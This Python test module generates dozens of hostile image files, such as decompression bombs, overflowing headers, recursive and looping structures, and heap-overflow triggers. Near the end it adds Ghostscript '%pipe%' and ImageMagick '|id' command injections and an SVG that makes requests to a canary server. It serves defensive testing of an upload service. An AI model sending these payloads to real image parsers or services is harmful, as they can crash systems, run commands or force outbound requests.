"""Hostile pictures."""

import struct
import zlib
from functools import cache
from typing import Any

import numpy as np
from PIL import Image

from tests.deployments.images.heif_files import Item, coded_picture, heif, same_tiles, size_property, with_size
from tests.deployments.images.images import (
    PNG_SIGNATURE,
    bmp,
    chunk,
    encoded,
    gif_of_many_blocks,
    jpeg_of_many_scans,
    jpeg_of_many_segments,
    noise,
    png_of_many_chunks,
    png_of_one_column,
    webp_chunk,
    webp_of_many_chunks,
    webp_with_chunks,
    with_chunks,
)
from tests.deployments.images.tiff_files import LONG, SHORT, grey_tiff
from tests.hostile.item import CANARY, OK, Collection
from tests.hostile.seeds import rle_bmp

INVALID, TYPE, REQUEST, TIMEOUT = "INVALID_FILE", "INVALID_FILE_TYPE", "INVALID_REQUEST", "TIMEOUT"
IMAGES = Collection("image", max_length="5")
BOMB_BYTES = 400_000_000


@cache
def compressed_zeros(num_bytes: int) -> bytes:
    """Return a zlib stream of zeros, a thousandth as long."""
    compress = zlib.compressobj(9)
    block = bytes(1_000_000)
    parts = [compress.compress(block[: min(len(block), num_bytes - at)]) for at in range(0, num_bytes, len(block))]
    return b"".join([*parts, compress.flush()])


def png(width: int, height: int, data: bytes, *, depth: int = 8, colour: int = 2, interlace: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    return PNG_SIGNATURE + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def small_png() -> bytes:
    return encoded(noise(), "PNG")


def jpeg(**options: Any) -> bytes:
    return encoded(noise(), "JPEG", **options)


def patched(content: bytes, at: int, new: bytes) -> bytes:
    return content[:at] + new + content[at + len(new) :]


def jpeg_with_segment(marker: int, content: bytes, times: int = 1) -> bytes:
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content
    whole = jpeg()
    return whole[:2] + segment * times + whole[2:]


@IMAGES.item(INVALID)
def jpeg_of_60_000_scans() -> bytes:
    """CPU: libjpeg passes over all 62 megapixels once for each scan."""
    return jpeg_of_many_scans(60_000)


@IMAGES.item(OK, INVALID, TIMEOUT, is_slow=True)
def jpeg_of_as_many_scans_as_allowed() -> bytes:
    """CPU: the most that the bound on scans lets through."""
    return jpeg_of_many_scans(90)


@IMAGES.item(INVALID)
def jpeg_of_700_000_segments() -> bytes:
    """CPU: Pillow handles each EXIF segment in Python, and joins them again and again."""
    return jpeg_of_many_segments(700_000)


@IMAGES.item(OK)
def jpeg_of_90_000_comments() -> bytes:
    """Memory: comments are kept in a list."""
    return jpeg_with_segment(0xFE, b"x" * 60, 90_000)


@IMAGES.item(INVALID)
def jpeg_of_65535_by_65535() -> bytes:
    """Memory: 12 GB of pixels are announced in a header of some bytes."""
    whole = jpeg()
    return patched(whole, whole.index(b"\xff\xc0") + 5, b"\xff\xff\xff\xff")


@IMAGES.item(INVALID)
def jpeg_without_height() -> bytes:
    """Header: a height of 0, which a DNL marker would give later (allowed by the standard, supported by nobody)."""
    whole = jpeg()
    return patched(whole, whole.index(b"\xff\xc0") + 5, b"\x00\x00")


@IMAGES.item(INVALID)
def jpeg_with_12_bits() -> bytes:
    """Header: a precision that the decoder is not built for."""
    whole = jpeg()
    return patched(whole, whole.index(b"\xff\xc0") + 4, b"\x0c")


@IMAGES.item(INVALID)
def jpeg_with_255_components() -> bytes:
    """Header: more components than the segment has room for."""
    whole = jpeg()
    return patched(whole, whole.index(b"\xff\xc0") + 9, b"\xff")


@IMAGES.item(OK, INVALID)
def jpeg_without_tables() -> bytes:
    """Decoder state: no Huffman tables (as in MJPEG frames, for which decoders have defaults)."""
    return jpeg().replace(b"\xff\xc4", b"\xff\xed")


@IMAGES.item(INVALID)
def jpeg_with_sampling_factors_of_zero() -> bytes:
    """Division by zero: sampling factors of 0."""
    whole = jpeg()
    return patched(whole, whole.index(b"\xff\xc0") + 11, b"\x00")


@IMAGES.item(OK)
def jpeg_with_exif_that_refers_to_itself() -> bytes:
    """Recursion: an EXIF directory whose next directory is itself."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    exif = b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 1) + entry + struct.pack("<I", 8)
    return jpeg_with_segment(0xE1, b"Exif\x00\x00" + exif)


@IMAGES.item(OK)
def jpeg_with_65535_exif_entries() -> bytes:
    """CPU: a directory that claims more entries than the segment has."""
    return jpeg_with_segment(0xE1, b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\xff\xff" + bytes(60_000))


@IMAGES.item(OK)
def jpeg_with_profile_in_255_parts() -> bytes:
    """Memory: parts of a colour profile that are joined."""
    return jpeg_with_segment(0xE2, b"ICC_PROFILE\x00\x01\xff" + bytes(65_000), 100)


@IMAGES.item(OK)
def jpeg_of_many_pictures() -> bytes:
    """Offsets: a multi-picture file (MPO) whose directory points past its end."""
    entries = struct.pack("<HHII", 0xB001, 4, 1, 1000) + struct.pack("<HHII", 0xB002, 7, 16_000, 0xFFFFFF00)
    return jpeg_with_segment(0xE2, b"MPF\x00II*\x00\x08\x00\x00\x00\x02\x00" + entries + bytes(4))


@IMAGES.item(OK)
def jpeg_followed_by_a_zip_archive() -> bytes:
    """Type confusion: a picture that is also an archive."""
    return jpeg() + b"PK\x05\x06" + bytes(18)


@IMAGES.item(INVALID)
def png_of_one_column_of_64_megapixels() -> bytes:
    """Memory: scaling needs 48 bytes for each pixel of the longer side."""
    return png_of_one_column(64_000_000)


@IMAGES.item(INVALID)
def png_of_one_row_of_64_megapixels() -> bytes:
    """Memory: the same in the other direction."""
    return png(64_000_000, 1, compressed_zeros(64_000_001), colour=0)


@IMAGES.item(INVALID)
def png_of_2_billion_by_2_billion() -> bytes:
    """Integer overflow: width times height."""
    return png(2**31 - 1, 2**31 - 1, compressed_zeros(1000))


@IMAGES.item(INVALID)
def png_of_nothing() -> bytes:
    """Division by zero: a width of 0."""
    return png(0, 16, compressed_zeros(16))


@IMAGES.item(OK)
def png_with_a_bomb_as_profile() -> bytes:
    """Memory: iCCP that expands to 400 MB."""
    profile = chunk(b"iCCP", b"p\x00\x00" + compressed_zeros(BOMB_BYTES))
    return with_chunks(small_png(), profile, b"IDAT")


@IMAGES.item(OK)
def png_with_a_bomb_as_text() -> bytes:
    """Memory: zTXt that expands to 400 MB."""
    return with_chunks(small_png(), chunk(b"zTXt", b"t\x00\x00" + compressed_zeros(BOMB_BYTES)), b"IEND")


@IMAGES.item(OK)
def png_with_a_bomb_as_xmp() -> bytes:
    """Memory: iTXt that expands to 400 MB, where an orientation would be."""
    text = b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + compressed_zeros(BOMB_BYTES)
    return with_chunks(small_png(), chunk(b"iTXt", text), b"IEND")


@IMAGES.item(OK, INVALID)
def png_with_a_bomb_as_pixels() -> bytes:
    """Memory: one pixel, and data that expands to 400 MB."""
    return png(1, 1, compressed_zeros(BOMB_BYTES))


@IMAGES.item(OK, INVALID)
def png_with_a_bomb_that_breaks_off() -> bytes:
    """CPU: our own check of whether data that breaks off is complete."""
    whole = png(1, 1, compressed_zeros(BOMB_BYTES))
    return whole[:-20]


@IMAGES.item(OK, INVALID, is_slow=True)
def png_of_64_megapixels_with_16_bits_and_alpha() -> bytes:
    """Memory: the largest legal picture, 512 MB in the file's own format."""
    return png(8000, 8000, compressed_zeros(8000 * (8000 * 8 + 1)), depth=16, colour=6)


@IMAGES.item(OK, INVALID, is_slow=True)
def png_interlaced_of_64_megapixels() -> bytes:
    """Memory: interlaced rows, which only a whole picture can hold."""
    return png(8000, 8000, compressed_zeros(8000 * 8000 * 3 + 20_000), interlace=1)


@IMAGES.item(INVALID)
def png_of_800_000_texts() -> bytes:
    """CPU: each chunk is handled in Python."""
    return png_of_many_chunks(800_000, b"tEXt")


@IMAGES.item(INVALID)
def png_animated_with_100_000_frames() -> bytes:
    """CPU: an animation, of which the first picture is wanted."""
    frame = chunk(b"fcTL", bytes(26)) + chunk(b"fdAT", bytes(8))
    return with_chunks(small_png(), chunk(b"acTL", struct.pack(">II", 100_000, 0)) + frame * 100_000, b"IEND")


@IMAGES.item(OK, INVALID)
def png_with_colours_that_its_palette_lacks() -> bytes:
    """Out-of-bounds read: colour 255 of a palette of one."""
    whole = png(4, 4, zlib.compress(b"\x00\xff\xff\xff\xff" * 4), colour=3)
    return with_chunks(whole, chunk(b"PLTE", b"abc"), b"IDAT")


@IMAGES.item(INVALID)
def png_with_a_palette_of_16_bits() -> bytes:
    """Header: a combination that the standard excludes."""
    return png(4, 4, zlib.compress(bytes(100)), depth=16, colour=3)


@IMAGES.item(INVALID)
def png_of_an_iphone() -> bytes:
    """Format: Apple's CgBI, raw deflate data in the order blue, green, red."""
    whole = small_png()
    return whole[:8] + chunk(b"CgBI", b"\x50\x00\x20\x06") + png(16, 16, zlib.compress(bytes(784))[2:-4])[8:]


@IMAGES.item(OK)
def png_whose_chunk_is_4_gigabytes() -> bytes:
    """Memory: a length of a chunk that no file has; all its pixels are there."""
    whole = small_png()
    return patched(whole, whole.index(b"IDAT") - 4, b"\xff\xff\xff\xff")


@IMAGES.item(OK)
def gif_of_100_000_frames() -> bytes:
    """CPU: frames that are only skipped, of a picture of which the first frame is wanted."""
    whole = encoded(noise(8, 8), "GIF")
    start = whole.index(b",", 13 + 3 * 2 ** ((whole[10] & 7) + 1))
    return whole[:-1] + whole[start:-1] * 100_000 + b";"


@IMAGES.item(INVALID)
def gif_with_a_canvas_of_65535_by_65535() -> bytes:
    """Memory: a canvas of 4 gigapixels with a picture of one pixel."""
    return patched(encoded(noise(8, 8), "GIF"), 6, b"\xff\xff\xff\xff")


@IMAGES.item(OK, INVALID)
def gif_with_a_frame_outside_its_canvas() -> bytes:
    """Memory: a frame at the far corner, to which decoders extend the canvas (CVE-2022-45198)."""
    whole = encoded(noise(8, 8), "GIF")
    start = whole.index(b",", 13 + 3 * 2 ** ((whole[10] & 7) + 1))
    return patched(whole, start + 1, struct.pack("<HHHH", 60_000, 60_000, 5_000, 5_000))


@IMAGES.item(OK, is_slow=True)
def gif_of_64_megapixels() -> bytes:
    """Memory: the largest legal picture, of one colour."""
    return encoded(Image.new("L", (8000, 8000), 7), "GIF")


@IMAGES.item(INVALID)
def gif_of_4_000_000_blocks() -> bytes:
    """CPU: a comment in blocks of one byte."""
    return gif_of_many_blocks(4_000_000)


@IMAGES.item(OK, INVALID)
def gif_with_a_code_size_of_255() -> bytes:
    """Shift overflow: the first byte of LZW data."""
    whole = encoded(noise(8, 8), "GIF")
    start = whole.index(b",", 13 + 3 * 2 ** ((whole[10] & 7) + 1))
    return patched(whole, start + 10, b"\xff")


@IMAGES.item(INVALID)
def gif_without_a_picture() -> bytes:
    """Format: extensions only."""
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + b"!\xfe\x01x\x00" * 1000 + b";"


@IMAGES.item(INVALID)
def webp_of_1_000_000_chunks() -> bytes:
    """CPU: chunks of no content."""
    return webp_of_many_chunks(1_000_000)


@IMAGES.item(INVALID)
def webp_with_a_canvas_of_16_million_pixels_by_16_million() -> bytes:
    """Integer overflow: the canvas of the extended format."""
    whole = encoded(noise().convert("RGBA"), "WEBP", exif=b"Exif\x00\x00II*\x00")
    return patched(whole, whole.index(b"VP8X") + 12, b"\xff" * 6)


@IMAGES.item(OK, INVALID, is_slow=True)
def webp_animated_with_a_canvas_of_64_megapixels() -> bytes:
    """Memory: a large canvas in an animation of small frames."""
    frames = [noise(16, 16, seed) for seed in range(3)]
    whole = encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:])
    side = (7999).to_bytes(3, "little")
    return patched(whole, whole.index(b"VP8X") + 12, side + side)


@IMAGES.item(OK, INVALID)
def webp_with_overflowing_huffman_tables() -> bytes:
    """Heap overflow: code lengths of a lossless picture (the kind of CVE-2023-4863)."""
    whole = bytearray(encoded(noise(), "WEBP", lossless=True))
    whole[30:80] = bytes(range(7, 57))
    return bytes(whole)


@IMAGES.item(OK)
def webp_with_a_bomb_as_profile() -> bytes:
    """Memory: 9 MB of profile and EXIF data."""
    whole = encoded(noise().convert("RGBA"), "WEBP", exif=b"Exif\x00\x00II*\x00")
    return webp_with_chunks(whole, webp_chunk(b"ICCP", bytes(4_000_000)) + webp_chunk(b"XMP ", bytes(4_000_000)))


@IMAGES.item(INVALID)
def bmp_with_a_size_of_2_billion() -> bytes:
    """Memory: a size in the header, with next to no pixels."""
    return patched(bmp(np.zeros((4, 4, 4), np.uint8), 124), 18, struct.pack("<ii", 2**31 - 1, -(2**31)))


@IMAGES.item(INVALID)
def bmp_whose_pixels_start_behind_its_end() -> bytes:
    """Out-of-bounds read: the offset of the pixels."""
    return patched(bmp(np.zeros((4, 4, 4), np.uint8), 124), 10, b"\xff\xff\xff\xff")


@IMAGES.item(OK, INVALID)
def bmp_with_2_billion_colours() -> bytes:
    """Memory: the size of the palette."""
    return patched(encoded(noise().quantize(4), "BMP"), 46, b"\xff\xff\xff\x7f")


@IMAGES.item(OK, INVALID)
def bmp_in_runs_that_go_nowhere() -> bytes:
    """Endless loop: run-length encoding with moves (escape 2) of 0 and past the edges."""
    head = rle_bmp()[: 54 + 1024]
    return head + (b"\x00\x02\x00\x00" + b"\x00\x02\xff\xff") * 100_000


@IMAGES.item(OK, INVALID)
def bmp_in_runs_of_64_megapixels() -> bytes:
    """Memory: run-length encoding of a large picture, in Python (Pillow decodes it there)."""
    head = patched(rle_bmp()[: 54 + 1024], 18, struct.pack("<ii", 8000, 8000))
    return head + (b"\xff\x07" * 31 + b"\x5f\x07\x00\x00") * 8000 + b"\x00\x01"


@IMAGES.item(INVALID)
def bmp_that_holds_a_png() -> bytes:
    """Format: a compression (BI_PNG) that is meant for printers."""
    return patched(bmp(np.zeros((4, 4, 4), np.uint8), 124), 30, b"\x05") + small_png()


@IMAGES.item(TYPE)
def raw_image_of_a_camera() -> bytes:
    """Decoder that is not wanted: a TIFF that holds sensor data, with a small preview as its first page."""
    return grey_tiff(16, 16, bytes(256), further=[(254, LONG, 1, 1)])


@IMAGES.item(OK)
def tiff_whose_pages_form_a_circle() -> bytes:
    """Endless loop: a page whose next page is itself."""
    return grey_tiff(64, 64, bytes(4096), next_page=8)


@IMAGES.item(INVALID)
def tiff_of_4_billion_by_4_billion() -> bytes:
    """Integer overflow: width times height."""
    return grey_tiff(2**32 - 1, 2**32 - 1, bytes(100))


@IMAGES.item(INVALID)
def tiff_whose_values_lie_over_one_another() -> bytes:
    """Memory: many tags with the same 9 MB of values."""
    tags = [(tag, SHORT, 4_500_000, 200) for tag in (320, 273, 279, 347, 529, 530, 532)]
    return grey_tiff(64, 64, bytes(9_000_100), further=tags)


@IMAGES.item(OK)
def tiff_of_60_000_metadata_tags() -> bytes:
    """CPU: tags of private use, each with the same 9 MB."""
    position = 300
    tags = [(tag, 7, 9_000_000, position) for tag in range(1000, 61_000)]
    return grey_tiff(64, 64, bytes(9_000_000), further=tags)


@IMAGES.item(INVALID)
def tiff_of_4_million_strips() -> bytes:
    """CPU: a strip for each byte."""
    tables = [(273, SHORT, 2_000_000, 200), (279, SHORT, 2_000_000, 200)]
    return grey_tiff(8, 2_000_000, bytes(8_500_000), further=tables)


@IMAGES.item(INVALID)
def tiff_with_tiles_of_2_billion() -> bytes:
    """Memory: tiles larger than the picture."""
    tile = [(322, LONG, 1, 2**31 - 16), (323, LONG, 1, 2**31 - 16), (324, LONG, 1, 200), (325, LONG, 1, 100)]
    return grey_tiff(64, 64, bytes(1000), compression=5, further=tile)


@IMAGES.item(OK, INVALID, is_slow=True)
def tiff_of_64_megapixels() -> bytes:
    """Memory: the largest legal picture, deflated."""
    return grey_tiff(8000, 8000, compressed_zeros(64_000_000), compression=8)


@IMAGES.item(OK, INVALID)
def tiff_with_a_bomb_as_pixels() -> bytes:
    """Memory: one pixel, and data that expands to 400 MB."""
    return grey_tiff(1, 1, compressed_zeros(BOMB_BYTES), compression=8)


@IMAGES.item(INVALID)
def tiff_with_the_old_jpeg_compression() -> bytes:
    """Decoder state: JPEG as in TIFF 6.0, with tables at positions that do not exist."""
    tables = [(512, SHORT, 1, 1), (513, LONG, 1, 2**31), (514, LONG, 1, 2**31), (519, LONG, 1, 2**31)]
    return grey_tiff(64, 64, bytes(1000), compression=6, further=tables)


def small_heic() -> Item:
    return coded_picture(noise(64, 64))


def grid(first: int) -> Item:
    """Return a picture of 128 x 128 that consists of the four items from number `first` on."""
    layout = struct.pack(">BBBBII", 0, 1, 1, 1, 128, 128)
    return Item("grid", layout, [size_property(128, 128)], [("dimg", range(first, first + 4))])


@IMAGES.item(INVALID)
def heic_of_2_billion_by_2_billion() -> bytes:
    """Memory: the size in its header."""
    return heif(with_size(small_heic(), 2**31 - 1, 2**31 - 1))


@IMAGES.item(INVALID)
def heic_whose_pixels_are_more_than_it_says() -> bytes:
    """Memory: a picture of 9 megapixels that claims to be of 16 x 16."""
    return heif(with_size(coded_picture(Image.new("RGB", (3000, 3000))), 16, 16))


@IMAGES.item(INVALID)
def heic_of_65025_tiles() -> bytes:
    """CPU: a grid of the same tile of 2 megapixels, of which only a corner is shown."""
    return heif(*same_tiles(coded_picture(Image.new("RGB", (2000, 1000))), 255, 255, 64, 64))


@IMAGES.item(INVALID)
def heic_of_900_tiles() -> bytes:
    """CPU: the same with as many tiles as libheif takes."""
    return heif(*same_tiles(coded_picture(Image.new("RGB", (2000, 1000))), 30, 30, 64, 64))


@IMAGES.item(OK, INVALID, is_slow=True)
def heic_of_64_megapixels() -> bytes:
    """Memory: the largest legal picture, in tiles of 10 bits, as phones have them."""
    return heif(*same_tiles(coded_picture(noise(1000, 1000), pix_fmt="yuv420p10le"), 8, 8, 8000, 8000))


@IMAGES.item(INVALID)
def heic_that_consists_of_itself() -> bytes:
    """Recursion: a grid whose tiles are the grid."""
    return heif(grid(1), *[small_heic()] * 4)


@IMAGES.item(INVALID)
def heic_of_grids_of_grids() -> bytes:
    """CPU: 80 grids, each of the four that follow: 4^20 tiles."""
    levels = [grid(2 + 4 * (number // 4 + (number > 0))) for number in range(80)]
    return heif(*levels, *[small_heic()] * 6)


@IMAGES.item(OK, INVALID)
def heic_of_900_items() -> bytes:
    """CPU: metadata of 9 MB, many times over."""
    items = [Item("Exif", b"", references=[("cdsc", [1])]) for _ in range(900)]
    whole = heif(small_heic(), *items)
    return whole + bytes(9_000_000)


@IMAGES.item(INVALID)
def heic_with_60_000_places() -> bytes:
    """CPU: a table that claims more items than it has, each of many parts."""
    whole = heif(small_heic())
    at = whole.index(b"iloc") + 10
    return patched(whole, at, b"\xff\xff")


@IMAGES.item(INVALID)
def heic_without_pictures() -> bytes:
    """Format: a header and nothing else."""
    return heif(brand=b"heic")


@IMAGES.item(TYPE)
def heif_that_holds_a_jpeg() -> bytes:
    """Decoder that is not wanted: a HEIF file may hold pictures of any codec."""
    return heif(Item("jpeg", jpeg(), [size_property(64, 48)]), brand=b"mif1")


@IMAGES.item(INVALID)
def avif_of_65535_by_65535() -> bytes:
    """Memory: the size in its header."""
    return heif(with_size(coded_picture(noise(64, 64), "av01"), 65535, 65535), brand=b"avif")


@IMAGES.item(INVALID)
def avif_of_65025_tiles() -> bytes:
    """CPU: a grid of the same tile."""
    picture = coded_picture(Image.new("RGB", (64, 64)), "av01")
    return heif(*same_tiles(picture, 255, 255, 7000, 7000), brand=b"avif")


@IMAGES.item(OK, INVALID, is_slow=True)
def avif_of_64_megapixels() -> bytes:
    """Memory: the largest legal picture, with 10 bits, in tiles."""
    picture = coded_picture(noise(1000, 1000), "av01", pix_fmt="yuv420p10le")
    return heif(*same_tiles(picture, 8, 8, 8000, 8000), brand=b"avif")


@IMAGES.item(OK, INVALID)
def avif_with_a_damaged_picture() -> bytes:
    """Heap overflow: bits of the coded picture are changed."""
    whole = bytearray(encoded(noise(), "AVIF"))
    start = whole.index(b"mdat") + 20
    whole[start : start + 40] = bytes(range(40))
    return bytes(whole)


@IMAGES.item(TYPE)
def icon_that_holds_a_png() -> bytes:
    """Decoder that is not wanted: ICO, whose sizes are not those of its pictures (CVE-2021-27923)."""
    return encoded(noise(), "ICO")


@IMAGES.item(TYPE)
def postscript() -> bytes:
    """Decoder that is not wanted: EPS, which Pillow gives to Ghostscript."""
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n"


@IMAGES.item(TYPE)
def svg_that_refers_to_a_server() -> bytes:
    """Request forgery: an SVG with an external entity and an external picture."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{CANARY}/entity">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{CANARY}/image"/>&e;</svg>'
    ).encode()


@IMAGES.item(TYPE)
def magick_vector_graphics() -> bytes:
    """Command injection: a drawing as ImageMagick would run it (CVE-2016-3714)."""
    return f"push graphic-context\nviewbox 0 0 9 9\nfill 'url({CANARY}/a.jpg\"|id\")'\npop graphic-context\n".encode()


@IMAGES.item(TYPE)
def animation_in_autodesks_format() -> bytes:
    """Decoder that is not wanted: FLI, with an endless loop in its past (CVE-2021-28676)."""
    return struct.pack("<IHHHHHH", 128, 0xAF11, 1, 8, 8, 8, 0) + bytes(200)


@IMAGES.item(TYPE)
def one_byte() -> bytes:
    """Format: too short to have a header."""
    return b"\xff"


@IMAGES.item(INVALID)
def jpeg_of_four_bytes() -> bytes:
    """Format: the start of a picture and nothing else."""
    return b"\xff\xd8\xff\xe0"


@IMAGES.item(REQUEST)
def no_bytes() -> bytes:
    """Format: an empty file."""
    return b""
